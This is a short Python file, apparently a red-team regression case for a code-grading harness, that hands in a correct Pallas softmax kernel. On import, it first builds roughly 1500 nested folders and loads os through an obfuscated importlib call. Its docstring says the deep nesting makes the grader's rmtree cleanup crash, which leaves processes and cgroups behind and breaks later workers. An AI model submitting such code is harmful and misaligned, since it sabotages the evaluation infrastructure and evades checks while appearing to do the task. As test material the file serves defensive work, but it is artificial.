"""Attack: nest folders in the home deeper than Python recurses, then answer correctly. Removing
that home with ``shutil.rmtree`` raised RecursionError (CPython 3.11), past ``ignore_errors``:
the check's clean-up stopped half-way (children, cgroups and homes left behind), and every later
worker start failed at its sweep of the leftover home."""

import typing

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

load = typing.sys.modules["importlib"].import_module
os = load("os")
TARGETS = {}  # the test writes {"depth": N} here

here = os.getcwd()
for _ in range(TARGETS.get("depth", 1500)):
    os.mkdir("d")
    os.chdir("d")
os.chdir(here)


def kernel(x):
    return pl.pallas_call(_softmax, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype))(x)


def _softmax(x_ref, o_ref):
    x = x_ref[...]
    e = jnp.exp(x - jnp.max(x, axis=-1, keepdims=True))
    o_ref[...] = e / jnp.sum(e, axis=-1, keepdims=True)
